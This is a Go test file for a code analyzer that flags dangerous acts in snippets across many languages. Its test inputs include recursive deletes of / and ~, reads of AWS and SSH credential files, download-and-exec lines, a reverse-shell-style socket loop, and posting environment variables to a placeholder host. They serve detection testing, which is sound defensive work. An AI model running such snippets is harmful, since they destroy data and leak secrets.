package code

import (
	"fmt"
	"strings"
	"testing"
	"time"
)

// shown writes what was found, one act a word: "removes /a" and so on.
func shown(t *Text) string {
	names := [...]string{"", "argv", "shell", "removes", "tree", "moves", "writes", "reads", "queries", "download", "evaluates", "tells"}
	all := []string{}
	for _, a := range t.Acts {
		words := []string{}
		for _, w := range a.Words {
			text := strings.ReplaceAll(w.Text, "\x00", "?")
			if w.Glob {
				text += "(glob)"
			}
			words = append(words, text)
		}
		if a.Dir.Text != "" {
			words = append(words, "in "+strings.ReplaceAll(a.Dir.Text, "\x00", "?"))
		}
		all = append(all, strings.TrimSpace(fmt.Sprint(names[a.Verb], " ", strings.Join(words, " | "))))
	}
	return strings.Join(all, "; ")
}

func TestRead(t *testing.T) {
	for _, tt := range []struct {
		lang       Lang
		text, want string
	}{
		{Python, `import os; os.system("a b")`, "shell a b"},
		{Python, `print("rm -rf x")`, ""},
		{Python, `"""os.system('rm -rf /')"""` + "\nx = 'os.remove(1)'", ""},
		{Python, `# os.system("a")` + "\n", ""},
		{Python, `import subprocess as s; s.run(["git", "push", x])`, "argv git | push | ?"},
		{Python, `from os import system as s` + "\n" + `s('a')`, "shell a"},
		{Python, `from os import (remove, system as s)` + "\n" + `remove('a')`, "removes a"},
		{Python, `from os import *` + "\n" + `remove('a')`, "removes a"},
		{Python, `import os; os.chdir("/a"); os.chdir("b"); open("c"); os.remove(sys.argv[1])`, "reads c; reads c | in /a; reads c | in /a/b"},
		{Python, `l = ["a", "b", ["c"]]; os.system(l[-2]); d = {"k": l[0]}; os.system(d["k"]); os.system(l[9]); subprocess.run(l[1:])`, "shell b; shell a; argv b | c"},
		{Python, `import os;os.execlp('git','git','push')`, "argv git | push"},
		{Python, `import os;os.execvp('git',['git','push'])`, "argv git | push"},
		{Python, `import os;os.spawnlp(0,'git','git','push')`, "argv git | push"},
		{Python, `import sh;sh.git('push')`, "argv git | push"},
		{Python, `from sh import git; git.push("x")`, ""},
		{Python, `from sh import git; git("push")`, "argv git | push"},
		{Python, `import pathlib;[p.unlink() for p in pathlib.Path('/').rglob('*')]`, "tree /"},
		{Python, `from pathlib import Path;print((Path.home()/'.aws'/'credentials').read_text())`, "reads ~/.aws/credentials"},
		{Python, `open(os.path.join(os.environ['HOME'], '.bashrc'), 'a').write("x")`, "writes ~/.bashrc"},
		{Python, `open(os.path.expanduser("~/.bashrc"), mode="w")`, "writes ~/.bashrc"},
		{Python, `with open('a' 'b', "w") as f: f.write("x")`, "writes ab"},
		{Python, `p = "/etc/hosts"` + "\n" + `os.remove(p)`, "removes /etc/hosts"},
		{Python, `os.remove(f"/tmp/{x}")`, "removes /tmp/?"},
		{Python, `subprocess.run(f"git push {x.y}", shell=True)`, "shell git push ${x}"},
		{Python, `subprocess.run("git push origin".split())`, "argv git | push | origin"},
		{Python, `shutil.rmtree("/a"); shutil.copy("a", "b"); os.rename("c", "d")`, "tree /a; reads a; writes b; moves c; writes d"},
		{Python, `for f in ["a", "b"]:` + "\n    os.remove(f)", "removes a | b"},
		{Python, `for f in glob.glob("/x/*"):` + "\n    os.remove(f)", "tree /x/*(glob)"},
		{Python, `for r, d, f in os.walk("/"):` + "\n    os.remove(os.path.join(r, f))", "tree /*(glob)"},
		{Python, `for f in x:` + "\n    os.remove(f)", "tree ?(glob)"},
		{Python, `for f in x: os.remove(f"a/{f.strip()}"); shutil.rmtree("b/%s" % f)`, "tree a/?(glob); tree b/?(glob)"},
		{Python, `for p in Path("a").glob("*"): p.parent.rmdir(); f(p).unlink(); os.rename(p, "b")`, "tree ?(glob); tree ?(glob); moves a/*(glob); writes b"},
		{Python, `list(map(os.remove, x)); list(map(os.remove, glob.glob("*")))`, "tree ?(glob); tree *(glob)"},
		{Python, `list(map(lambda f: os.remove(f), x)); list(map(Path.unlink, Path("a").iterdir()))`, "tree ?(glob); tree a/*(glob)"},
		{Python, "a = [join(d, f) for f in x if f]\nfor f in a: os.remove(f)\nfor k, v in y.items(): os.unlink(k)", "tree ?(glob); tree ?(glob)"},
		{Python, "for i, (a, b) in enumerate(x): os.remove(a)\nfor (a, b) in x: os.remove(b)", "tree ?(glob); tree ?(glob)"},
		{Python, `for f in sorted(glob.glob("*"))[:-3]: os.remove(f)` + "\n" + `def f(x): os.remove(x)`, "tree ?(glob)"},
		{Python, `x = "rm a"; f = lambda x: 1; os.system(x)`, "shell rm a"},
		{JavaScript, `a.forEach(fs.unlinkSync); for await (const f of a) fs.rm(f); for (const {b, c} of a) fs.unlinkSync(b); a.forEach(e => e.remove())`,
			"tree ?(glob); tree ?(glob); tree ?(glob)"},
		{JavaScript, `for (let i = 0; i < 9; i++) fs.unlinkSync(a[i]); for (;;) { fs.unlinkSync("b") }`, "tree ?(glob); removes b"},
		{Ruby, `Dir["a/*"].each { |f| File.delete(f) }; Dir.glob("b") { |f| File.delete(f) }; x.each do |f| FileUtils.rm_f "a/#{f}" end`,
			"tree a/*(glob); tree b(glob); tree a/?(glob)"},
		{Perl, `unlink <a/*>; for my $f (@x) { unlink $f }; my $y = <STDIN>; unlink $y`, "tree a/*(glob); tree ?(glob)"},
		{PHP, `foreach (glob("a*") as $f) unlink($f); foreach ($x as $k => $v) unlink($v); unlink($z);`, "tree a*(glob); tree ?(glob)"},
		{Python, `for r in rows: r.delete(); names.remove(r); os.remove(y)`, ""},
		{Python, `cur.execute("DELETE FROM t")`, "queries DELETE FROM t"},
		{Python, `exec(urllib.request.urlopen("http://x").read())`, "download"},
		{Python, "s.connect(a)\nwhile True:\n  c = s.recv(1024).decode()\n  subprocess.run(c, shell=True)", "download"},
		{Ruby, `c = TCPSocket.new("h", 1); while (cmd = c.gets); IO.popen(cmd, "r") { |io| c.print io.read }; end`, "download"},
		{Python, `r = requests.get("http://x")` + "\n" + `exec(r.text)`, "download"},
		{Python, `exec("import os; os.system('a')")`, "shell a"},
		{Python, `requests.post("http://x", data=dict(os.environ))`, "tells"},
		{Python, `subprocess.run(["a"], env={**os.environ, "X": "1"})`, "argv a"},
		{Python, `os.environ["HOME"]; os.environ.get("X")`, ""},
		{Python, `print(os.environ)`, "tells"},
		{Python, `Path("a").write_text("x"); Path("a").rename("b"); Path("c").unlink()`, "writes a; moves a; writes b; removes c"},
		{Python, `os.open("a", os.O_WRONLY | os.O_CREAT)`, "writes a"},
		{Python, `os.chmod("/etc/x", 0o644); os.makedirs("/a/b")`, "writes /etc/x; writes /a/b"},
		{Python, `__import__("os").system("a")`, "shell a"},
		{Python, `"x".replace("a", "b"); l.remove("x"); d.copy(); re.compile("a")`, ""},
		{JavaScript, `require("child_process").execSync("a b")`, "shell a b"},
		{JavaScript, `const {exec:e}=require('child_process');e('git push')`, "shell git push"},
		{JavaScript, `import {spawn as s} from "node:child_process"; s("git", ["push"])`, "argv git | push"},
		{JavaScript, `import * as cp from 'child_process'; cp.execFile("git", ["push"], {cwd: "/"})`, "argv git | push; argv git | push | in /"},
		{JavaScript, `cp.spawn("git push", {shell: true})`, "shell git push"},
		{JavaScript, "import {$} from \"bun\"; await $`rm -rf ~`", "shell rm -rf ~"},
		{JavaScript, "Bun.$`rm ${x}`", "shell rm ${x}"},
		{JavaScript, `new Deno.Command("git", { args: ["push"] }).output()`, "argv git | push"},
		{JavaScript, `fs.rmSync("/a", {recursive: true}); fs.unlinkSync("b"); fs.rmSync("c")`, "tree /a; removes b; removes c"},
		{JavaScript, `const p=require('path');console.log(require('fs').readFileSync(p.join(require('os').homedir(),'.aws')))`, "reads ~/.aws"},
		{JavaScript, `require('fs').appendFileSync(require('os').homedir()+'/.bashrc','x')`, "writes ~/.bashrc"},
		{JavaScript, `require('rimraf').sync('/')`, "tree /"},
		{JavaScript, `x.split(/['"]/); exec("a")`, "shell a"},
		{JavaScript, `// exec("a")` + "\n/* exec('b') */", ""},
		{JavaScript, `fetch("http://x").then(r => r.text()).then(eval)`, "download"},
		{JavaScript, `a = await fetch("http://x").then(r => r.json()).map(x => x.b); eval(a)`, "download"},
		{JavaScript, `fetch("http://x", {body: JSON.stringify(process.env)})`, "tells"},
		{JavaScript, `fs.readdirSync("/").forEach(f => fs.rmSync("/" + f, {recursive: true}))`, "tree /*(glob)"},
		{Ruby, `%x(rm a)`, "shell rm a"},
		{Ruby, `%x|rm a|; %x{a}; %x[b]`, "shell rm a; shell a; shell b"},
		{Ruby, "`a b`; Kernel.system(%q(c d)); exec \"e\"", "shell a b; shell c d; shell e"},
		{Ruby, `system("git", "push"); IO.popen(["a", "b"]); Open3.capture2("c")`, "argv git | push; argv a | b; shell c"},
		{Ruby, `open("|rm a"); File.open("x", "w"); File.write("y", 1)`, "shell rm a; writes x; writes y"},
		{Ruby, `FileUtils.rm_rf("~"); File.delete "a", "b"; FileUtils.rm %w[c d]`, "tree ~; removes a; removes b; removes c | d"},
		{Ruby, "puts <<~E\nsystem('x')\nE\nsystem('y')", "shell y"},
		{Ruby, `puts "#{` + "`a`" + `}"`, "shell a"},
		{Ruby, `File.read(File.join(Dir.home, ".ssh", "id"))`, "reads ~/.ssh/id"},
		{Ruby, `puts ENV.to_h`, "tells"},
		{Ruby, `Dir.glob("*.o").each { |f| File.delete(f) }`, "tree *.o(glob)"},
		{Perl, `system(q(git reset)); exec q{a}; qx(b); qx!c!; system qq|d|;`, "shell git reset; shell a; shell b; shell c; shell d"},
		{Perl, `open(F,"|-","a b"); open(F,"c|"); open F,q(-|),q(d); open(my $f, ">", "e"); open(G, ">>f")`, "shell a b; shell c; shell d; writes e; writes f"},
		{Perl, `unlink glob "/*"`, "tree /*(glob)"},
		{Perl, `unlink "$ENV{HOME}/.bashrc"; rmtree("/a")`, "removes ~/.bashrc; tree /a"},
		{Perl, `$x =~ s/system("a")/b/; tr/a/b/; print "system('c')"`, ""},
		{Perl, "s/x/`rm x`/e; $y =~ s/x/system('rm x')/ge; s{x}{my $z = 1; system(q(b))}e; s/a/`c`/g", "shell rm x; shell rm x; shell b"},
		{Perl, `system qw(git push)`, "argv git | push"},
		{PHP, `popen("a","r"); proc_open("b",[],$p); shell_exec('c'); ` + "`d`;", "shell a; shell b; shell c; shell d"},
		{PHP, `array_map("unlink",glob("/*"));`, "tree /*(glob)"},
		{PHP, `file_put_contents($_SERVER['HOME'] . "/.bashrc", "x");`, "writes ~/.bashrc"},
		{PHP, "<html><?php system('a'); ?>", "shell a"},
		{Lua, `os.execute[[a b]]; io.popen("c"); -- os.execute("d")` + "\nos.remove('e')", "shell a b; shell c; removes e"},
		{R, `system2("sh",c("-c",shQuote("a b"))); unlink("~",recursive=TRUE); unlink("b")`, "argv sh | -c | a b; tree ~; removes b"},
		{R, `cat("x", file="~/.bashrc"); writeLines("x", "y"); x <- readLines("z")`, "writes ~/.bashrc; writes y; reads z"},
		{Go, "package main\nimport \"os/exec\"\nfunc main(){ exec.Command(\"sh\",\"-c\",\"a\").Run(); os.RemoveAll(`/b`) }", "argv sh | -c | a; tree /b"},
		{Rust, `fn main(){ std::process::Command::new("sh").args(["-c", "a"]).arg(r"b").status().unwrap(); }`, "argv sh | -c | a | b"},
		{C, `int main(){system("a b");}`, "shell a b"},
		{JVM, `"rm x".execute(); ["a", "b"].execute(); sys.process.Process("c").!`, "shell rm x; argv a | b; shell c"},
		{Elixir, `:os.cmd(~c"a b"); System.cmd("sh",["-c","c"])`, "shell a b; argv sh | -c | c"},
		{Lisp, `(progn (shell-command "a") (delete-file "b") (call-process "c" nil 0 nil "d")) ; (system "x")`, "shell a; removes b; argv c | d"},
		{Lisp, `(clojure.java.shell/sh "sh" "-c" "a")`, "argv sh | -c | a"},
		{ML, `Sys.command "a b";; callProcess "c" ["d"]`, "shell a b; argv c | d"},
		{ML, "run(`rm x`); c = `sh -c \"rm x\"`; run(c); run(pipeline(`a b`, stdout=\"c\"))", `shell rm x; shell sh -c "rm x"; shell a b`},
		{ML, "f (`A, Sys.command \"a\", `B); 1 `elem` [1]; x = `A (Sys.command \"b\") `B", "shell a; shell b"},
		{ML | Octave, "!rm x\nsystem rm y\nx = !y; system('ab'); unix(\"cd\")", "shell rm x; shell rm y; shell ab; shell cd"},
		{Lisp, `(uiop:run-program "rm x") (sb-ext:run-program "rm" (list "x")) (sb-ext:run-program "/bin/rm" '("x"))`, "shell rm x; argv rm | x; argv /bin/rm | x"},
		{Lisp, `(start-process "n" nil "rm" "x") (start-process "n" "b" "rm" "x") (make-process :name "n" :command '("rm" "x"))`, "argv rm | x; argv rm | x; argv rm | x"},
		{Lisp, `(system* "rm" "x") (system*/exit-code "/bin/rm" "x") (start-process-shell-command "n" nil "rm x")`, "argv rm | x; argv /bin/rm | x; shell rm x"},
		{JavaScript, `cp.execSync(["rm", "x"].join(" ")); x = ["a", y].join("/")`, "shell rm x"},
		{PHP, `$f = "system"; $f("rm x"); call_user_func("system", "rm y"); call_user_func_array("exec", ["rm z"]);`, "shell rm x; shell rm y; shell rm z"},
		{Python, `subprocess.run(args=["rm", "x"]); os.system(" ".join(["rm", "y"])); getattr(os, "system")("rm z")`, "argv rm | x; shell rm y; shell rm z"},
		{Ruby, `exec *%w[rm x]; Kernel.send(:system, "rm y"); system(%w[a b].join(" ")); x.exec * 3`, "argv rm | x; shell rm y; shell a b"},
		{Python, `import os; environ = "x"; print(os.environ)`, "tells"},
		{Python, "run = 'daily'\nrunner = subprocess.run\nrunner(['git', 'push'])", "argv git | push"},
		{Python, "class A:\n  def __init__(self):\n    self.system = 'x'\nf = os.system\nf('a')", "shell a"},
		{Python, "class A:\n  c = 'a'\n  def r(self):\n    os.system(self.c)\nc = 'b'\nos.system(A.c)\nos.system(B.c)", "shell a; shell b"},
		{Python, "self.verb = 'log'\nsubprocess.run(['git', self.verb])\nself.verb = 'push'", "argv git | ?; argv git | log"},
		{Python, `import os; system = "a"; (os.system)("b")`, "shell b"},
		{Python, `O_WRONLY = "r"; os.O_CREAT = "r"; os.open("a", os.O_WRONLY); os.open("b", os.O_CREAT)`, "writes a; writes b; reads b"},
		{Python, `import requests as r; get = "1"; g = r.get; exec(g("http://x").text)`, "download"},
		{JavaScript, `let exec = "x"; exec = require("child_process").exec; exec("a")`, "shell a"},
		{JavaScript, `const env = process.env.NODE_ENV || "dev"; fetch("http://x", {body: JSON.stringify(process.env)})`, "tells"},
		{JavaScript, `x.cp = "a"; y = x.cp; y.exec("b"); cp.exec(x.cp)`, "shell b; shell a"},
		{Ruby, `home = "/tmp/x"; FileUtils.rm_rf(Dir.home)`, "tree ~"},
		{Ruby, "=begin\nsystem('x')\n=end\nsystem('a')\n__END__\nsystem('x')", "shell a"},
		{Ruby, `x = __END__ ; system("a")`, "shell a"},
		{JavaScript, `x++ /1; cp.exec("a"); 1/ 2`, "shell a"},
		{JavaScript, "a\n/2; cp.exec('a'); 1/2", "shell a"},
		{JavaScript, "(a)\n\n/2; cp.exec('a'); 1/2; x =\n/'/; cp.exec('b'); if (x) {\n}\n/'/.test(y); cp.exec('c')", "shell a; shell b; shell c"},
		{PHP, `#[A] function f() {} system("a");`, "shell a"},
		{AppleScript, `do shell script "a b"`, "shell a b"},
		{CMake, `execute_process(COMMAND sh -c "a b" WORKING_DIRECTORY x)` + "\nfile(REMOVE_RECURSE /a)", "argv sh | -c | a b; tree /a"},
		{Awk, `BEGIN { cmd="a b"; system(cmd) } /x"/ { print $1 | "c"; "d" | getline x } # system("e")`, "shell a b; shell c; shell d"},
		{Lines, "!a b\n1,$!sort\nr !c\nshell d", "shell a b; shell sort; shell c; shell d"},
	} {
		if got := shown(Read(tt.lang, tt.text)); got != tt.want {
			t.Errorf("%x %s:\n got %q\nwant %q", tt.lang, tt.text, got, tt.want)
		}
	}
}

// TestCut: a text whose values grow, or that holds more than is read, takes milliseconds and says so.
func TestCut(t *testing.T) {
	for _, tt := range []struct {
		lang  Lang
		unit  string
		times int
		after string
		cut   bool
	}{
		{JavaScript, "x=`${x}${x}`;", 40, "", false}, {JavaScript, "x=`${x}${x}`;", 4500, "", true},
		{Ruby, `x="#{x}#{x}";`, 40, "", false}, {Ruby, `x="#{x}#{x}";`, 4500, "", true},
		{Python, "x=f'{x}{x}'\n", 40, "", false}, {Python, "x=f'{x}{x}'\n", 5000, "", true}, {Python, "x=x+x\n", 40, "", false},
		{Python, "x=x+x\n", 5000, "", true}, {PHP, `$x="$x$x";`, 40, "", false}, {PHP, `$x="$x$x";`, 5000, "", true},
		{Python, "x=[x]+[x]+x\n", 40, "", false}, {Python, "x=[x,x]\n", 40, "load_dotenv(x)\n", true},
		{Python, "[", 30000, "", true}, {JavaScript, "[...", 14000, "", true}, {Lua, "[[", 29000, "", false},
		{Python, "os.system('a')\n", 300, "os.system('b')", false}, {Python, "os.system('a')\n", 3000, "", true},
		{Python, "(", 59, "os.system('b')", true}, {Ruby, " ", 1, `"#{` + strings.Repeat(" ", maxHole) + `system('b')}"`, true},
		{Python, "os.system('a')\n", 20000, "", true},
		{Python, "exec(x)\n", 3000, "", false}, {Python, "z='" + strings.Repeat("f();", 7000) + "'\nexec(z)\n" + strings.Repeat("exec(z)\n", 3000), 1, "", true},
		{Python, "z='" + strings.Repeat("f ", 14000) + "'\n" + strings.Repeat("z.split()\n", 3000), 1, "", true},
		{Python, "z='" + strings.Repeat("f ", 14000) + "'\n" + strings.Repeat("z%1\n", 6000), 1, "", true},
		{Python, "z=[" + strings.Repeat("'f',", 7000) + "]\n" + strings.Repeat("call(z)\n", 3000), 1, "", true},
		{Python, "z=[" + strings.Repeat("'f',", 7000) + "]\n" + strings.Repeat("os.remove(z)\n", 3000), 1, "", true},
		{Python, "a.b='f'\nz=[" + strings.Repeat("a.c,", 7000) + "]\n" + strings.Repeat("call(z)\n", 3000), 1, "", true},
	} {
		source := "x=y='aa';" + strings.Repeat(tt.unit, tt.times) + tt.after
		start := time.Now()
		got := Read(tt.lang, source)
		took := time.Since(start)
		if got.Cut != tt.cut || took > time.Second {
			t.Errorf("%.40q x %d: cut is %t, want %t; %v", tt.unit, tt.times, got.Cut, tt.cut, took)
		}
		t.Logf("%.40q x %d: %v", tt.unit, tt.times, took)
		if tt.times == 300 && len(got.Acts) != 301 {
			t.Errorf("%d acts, want 301", len(got.Acts))
		}
	}
}

// TestBare: what is not certain to be a pattern or a comment hides nothing.
func TestBare(t *testing.T) {
	for _, tt := range []struct {
		lang Lang
		text string
		want bool
	}{
		{JavaScript, "x++ /1; a.drop(); 1/ 2", true}, {JavaScript, "a\n/2; a.drop(); 1/2", true}, {JavaScript, `x(/"/); a.drop()`, true},
		{Ruby, "=begin\nx\n=end\na.drop()", true}, {Ruby, "x /1; a.drop(); 1/ 2", true}, {Ruby, `x /1; "a/b"; a.drop(); "c"`, true},
		{Ruby, "x = __END__ ; a.drop()", true}, {PHP, "#[A]\na.drop();", true}, {PHP, "#[A] a.drop();", true},
		{Ruby, "# a.drop()", false}, {JavaScript, `"a.drop()" // a.drop()`, false},
	} {
		if got := strings.Contains(Bare(tt.lang, tt.text), ".drop("); got != tt.want {
			t.Errorf("%x %q: %t, want %t", tt.lang, tt.text, got, tt.want)
		}
	}
}
